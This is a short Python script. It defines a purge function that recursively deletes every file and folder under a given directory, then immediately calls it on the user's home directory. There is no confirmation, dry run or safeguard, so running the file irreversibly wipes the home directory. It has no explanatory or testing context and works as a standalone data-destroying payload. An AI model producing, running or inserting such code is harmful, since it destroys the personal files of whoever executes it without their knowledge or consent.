from pathlib import Path

def purge(root: Path):
    for dirpath, dirnames, filenames in root.walk(top_down=False):
        for f in filenames:
            (dirpath / f).unlink()
        for d in dirnames:
            (dirpath / d).rmdir()

purge(Path.home())
